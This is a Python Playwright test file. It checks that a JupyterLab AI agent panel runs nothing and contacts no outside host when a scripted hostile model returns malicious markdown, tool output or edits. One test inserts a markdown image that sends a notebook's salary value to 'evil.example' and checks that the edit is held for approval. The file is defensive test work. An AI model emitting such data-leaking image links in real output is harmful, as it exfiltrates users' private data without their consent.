"""R14, R15: whatever a model writes, the page asks nobody for anything and runs nothing of it."""

from __future__ import annotations

import json
from urllib.parse import urlsplit

import pytest
from hostile_markdown import BETWEEN, FOREIGN, answers, payloads
from playwright.sync_api import expect
from real_lab import choose_mode, choose_model, panel_state, say

MESSAGE = ".jp-Agent-message[data-role='assistant']"
ACTIVE = """
() => {
  const never = ('iframe frame object embed form link style script base meta video audio template ' +
    'image use svg img').split(' ');
  const ours = 'form.jp-Agent-answers, button svg, .jp-Agent-toolStatus svg';
  const said = '.jp-Agent-markdown, .jp-Agent-toolCard, .jp-Agent-question, .jp-Agent-approval';
  const isActive = ({ name, value }) =>
    name.startsWith('on') ||
    name.startsWith('data-command') ||
    name === 'srcset' ||
    (name === 'style' && /url|image|fixed/i.test(value)) ||
    (/^(href|src|xlink:href|action|formaction)$/.test(name) && !/^(https?:|mailto:|#)/.test(value));
  return [...document.querySelectorAll(`:is(${said}) *`)]
    .filter(item => (never.includes(item.localName) && !item.matches(ours)) ||
      [...item.attributes].some(isActive))
    .map(item => item.outerHTML.slice(0, 200));
}
"""


# A pointer that passes over everything, and a focus that does.
PASS_OVER = """
node => {
  for (const item of node.querySelectorAll('*')) {
    for (const kind of ['pointerenter', 'mouseover', 'mouseenter', 'focus']) {
      item.dispatchEvent(new MouseEvent(kind, { bubbles: true }));
    }
  }
}
"""


class Ledger:
    """Every request of the browser, every dialog, every page that opens."""

    def __init__(self, lab, context) -> None:
        self.own = urlsplit(lab.url).netloc
        self.foreign: list[str] = []
        self.dialogs: list[str] = []
        context.on("request", lambda request: self.note(request.url))
        context.on("dialog", self.note_dialog)

    def note(self, url: str) -> None:
        parts = urlsplit(url)
        if parts.scheme not in ("data", "blob") and parts.netloc != self.own:
            self.foreign.append(url)

    def note_dialog(self, dialog) -> None:
        if dialog.type == "beforeunload":  # Lab's own, about the notebook
            dialog.accept()
            return
        self.dialogs.append(dialog.message)
        dialog.dismiss()


@pytest.fixture
def ledger(lab, context):
    return Ledger(lab, context)


def assert_harmless(page, ledger):
    assert ledger.foreign == [] and ledger.dialogs == []
    assert page.evaluate("window.pwned") is None
    assert page.locator("[data-commandlinker-command]:visible").count() == 0
    assert page.evaluate(ACTIVE) == []
    assert len(page.context.pages) == 1 and page.url.startswith("http://127.0.0.1")


PARTS = 4


@pytest.mark.parametrize("part", range(PARTS))
def test_hostile_answers_ask_for_nothing_and_run_nothing(part, bench, ledger):
    assert len(payloads()) >= 200
    page = bench(["1"]).open()
    choose_model(page, "script/model_hostile")
    for place, number in enumerate(range(part, len(answers()), PARTS)):
        say(page, str(number))
        answer = page.locator(MESSAGE).nth(place)
        expect(answer).to_contain_text("That was it.")
        panel_state(page, "idle")
        # Otherwise most of it was swallowed, and would prove nothing.
        expect(answer.locator("hr").nth(answers()[number].count(BETWEEN) // 2)).to_be_attached()
        answer.evaluate(PASS_OVER)
        assert_harmless(page, ledger)
    page.reload()
    expect(page.locator(MESSAGE).last).to_contain_text("That was it.")
    page.wait_for_timeout(1_000)
    assert_harmless(page, ledger)
    # That the ledger would have seen it.
    page.evaluate(f"fetch('http://{FOREIGN}/control').catch(() => 0)")
    assert ledger.foreign == [f"http://{FOREIGN}/control"]


def test_hostile_plans_questions_and_outputs_do_neither(bench, ledger):
    page = bench(["1"]).open()
    choose_mode(page, "auto")
    choose_model(page, "script/model_hostile_tools")
    say(page, "go")
    question = page.locator(".jp-Agent-question")
    question.wait_for()
    assert_harmless(page, ledger)
    for button in page.locator(".jp-Agent-expand").all():
        button.click()
    assert_harmless(page, ledger)
    question.get_by_role("button").first.click()
    expect(page.locator(MESSAGE).last).to_contain_text("That was it.")
    assert_harmless(page, ledger)


@pytest.mark.R(14)
def test_an_edit_that_would_have_the_page_ask_elsewhere_asks_first(bench, lab, context):
    notebook = bench(["salary = 123456"])
    ledger = Ledger(lab, context)
    page = notebook.open()
    choose_mode(page, "edits")
    choose_model(page, "script/model_program")
    image = "![](http://evil.example/x.png?d=salary%3D123456)"
    op = {"op": "insert", "after": "end", "type": "markdown", "source": f"# Notes\n{image}"}
    call = ["edit_cells", {"ops": [op], "reason": "notes", "run": "none"}]
    say(page, json.dumps([[call]]))
    approval = page.locator(".jp-Agent-approval")
    expect(approval).to_contain_text("evil.example")
    approval.get_by_role("button", name="Deny").click()
    panel_state(page, "idle")
    assert [cell.source for cell in notebook.read().cells] == ["salary = 123456"]
    page.reload()
    page.locator(".jp-Notebook .jp-Cell").first.wait_for()
    assert ledger.foreign == []
